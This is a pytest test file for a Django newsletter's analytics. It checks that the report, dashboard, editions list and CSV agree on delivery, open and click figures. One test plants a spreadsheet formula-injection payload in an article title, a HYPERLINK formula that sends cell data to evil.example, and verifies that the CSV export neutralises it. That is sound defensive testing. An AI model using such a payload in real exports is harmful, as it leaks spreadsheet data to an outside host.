"""Issue 22: one definition per figure. An edition sent through the development outbox (the ESP
reports no deliveries) and clicked by two of its three readers: the report, its CSV, the
dashboard and the editions list show the same sent, delivered, opens, clicks and rates, and each
says that the rates are relative to the messages sent. Before, the report said "وصل ٠" beside
"نقرات لكل ألف رسالة واصلة ٦٦٦٫٧" while the dashboard said "وصل ٣" for the same edition."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from newsletter.analytics import figures, rollup
from newsletter.analytics.models import EditionStats
from newsletter.delivery import dispatch
from newsletter.delivery.models import Delivery
from tests.conftest import read_outbox
from tests.integration.helpers import make_digest, make_subscribers
from tests.newsletter.analytics.report_pages import (
    click,
    click_links,
    dashboard_figures,
    dashboard_row,
    editor_client,
    labelled,
    pages,
    report_figures,
    roll_up,
)

pytestmark = pytest.mark.django_db
SHARED = ("sent", "delivered", "human_opens", "human_open_rate", "unique_clicks", "click_rate")


@pytest.fixture
def clicked_edition(outbox_dir):
    """Three readers through the outbox; the first two click the lead story."""
    digest = make_digest(stories=4)
    make_subscribers(3)
    assert dispatch.send_all_sync(digest_id=digest.id).sent == 3
    messages = read_outbox(outbox_dir)
    for message in messages[:2]:
        click(click_links(message.get_body(preferencelist=("html",)).get_content())[0])
    roll_up()
    return digest


def test_report_dashboard_list_and_csv_show_one_set_of_figures(clicked_edition) -> None:
    editor = editor_client()
    shown = pages(editor, clicked_edition.id)
    # What the editor read: "وصل" on the report and under "وصل" on the dashboard, one number.
    delivered_on_report = labelled(shown["report"], 'id="edition-figures"')["وصل"]
    delivered_on_dashboard = labelled(shown["dashboard"], 'aria-labelledby="rates"', clicked_edition.id)["وصل"]
    assert delivered_on_dashboard == delivered_on_report == "٠"
    report = report_figures(shown["report"])
    assert (report["sent"], report["delivered"], report["unique_clicks"]) == ("٣", "٠", "٢")
    assert report["click_rate"] == "٦٦٫٧٪"  # 2 of the 3 sent
    dashboard = dashboard_figures(shown["dashboard"], clicked_edition.id)
    assert {name: dashboard[name] for name in SHARED} == {name: report[name] for name in SHARED}

    # Each screen says what the rates are relative to: no delivery was reported, so the sent.
    assert 'id="rates-base"' in shown["report"]
    assert "نقرات لكل ألف رسالة مُرسلة" in shown["report"]
    assert "نقرات لكل ألف رسالة واصلة" not in shown["report"]
    assert "من المُرسلة" in dashboard_row(shown["dashboard"], clicked_edition.id)
    listed = shown["list"].split(reverse("admin:newsletter_digest_report", args=[clicked_edition.id]), 1)[1]
    assert listed.split("</a>", 1)[0] == '">نقر ٦٦٫٧٪ من المُرسلة'

    # The CSV's rate per 1,000 is the report's (2 clicks of 3 sent), with the same base.
    response = editor.get(reverse("admin:newsletter_digest_report_csv", args=[clicked_edition.id]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][:5][3:] == ["2", "666.7"]
    assert "٦٦٦٫٧" in shown["report"]


def test_with_deliveries_reported_every_screen_takes_rates_from_the_delivered(clicked_edition) -> None:
    first_two = Delivery.objects.filter(digest=clicked_edition).order_by("id").values_list("id", flat=True)[:2]
    Delivery.objects.filter(id__in=list(first_two)).update(delivered_at=timezone.now())
    assert rollup.rollup_edition(digest_id=clicked_edition.id)
    shown = pages(editor_client(), clicked_edition.id)
    report = report_figures(shown["report"])
    assert (report["sent"], report["delivered"], report["click_rate"]) == ("٣", "٢", "١٠٠٫٠٪")
    dashboard = dashboard_figures(shown["dashboard"], clicked_edition.id)
    assert {name: dashboard[name] for name in SHARED} == {name: report[name] for name in SHARED}
    assert 'id="rates-base"' not in shown["report"]
    assert "من المُرسلة" not in dashboard_row(shown["dashboard"], clicked_edition.id)
    assert "نقرات لكل ألف رسالة واصلة" in shown["report"] and "١٠٠٠٫٠" in shown["report"]


def test_figures_have_one_definition() -> None:
    def figures_of(**counts: int) -> figures.EditionFigures:
        stats = EditionStats(digest_id=1, updated_at=timezone.now(), **counts)
        return figures.EditionFigures.of(stats)

    outbox = figures_of(sent=3, delivered=0, unique_clicks=2, human_opens=1)
    assert not outbox.deliveries_reported and outbox.base == 3
    assert (outbox.click_rate, outbox.human_open_rate) == (66.7, 33.3)
    assert outbox.base_of(sent=1, delivered=0) == 1  # a segment follows the edition's rule
    mailgun = figures_of(sent=10, delivered=8, unique_clicks=2)
    assert mailgun.deliveries_reported and mailgun.base == 8 and mailgun.click_rate == 25.0
    assert mailgun.base_of(sent=4, delivered=0) == 0  # a segment the ESP reported nothing for
    assert figures_of(sent=0, delivered=0).click_rate is None


def test_the_story_csv_never_hands_a_formula_to_the_spreadsheet(outbox_dir) -> None:
    # Issue 23: a feed title `=HYPERLINK(...)` arrived in the editor's spreadsheet as a formula.
    from articles.content.models import Article
    from newsletter.editions.models import DigestItem

    digest = make_digest(stories=3)
    lead = DigestItem.objects.filter(digest=digest).order_by("position").first().article
    Article.objects.filter(pk=lead.pk).update(title='=HYPERLINK("https://evil.example/?"&A1,"اضغط")')
    make_subscribers(2)
    dispatch.send_all_sync(digest_id=digest.id)
    roll_up()
    response = editor_client().get(reverse("admin:newsletter_digest_report_csv", args=[digest.id]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    titles = [row[1] for row in rows[1:]]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"اضغط")' in titles
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
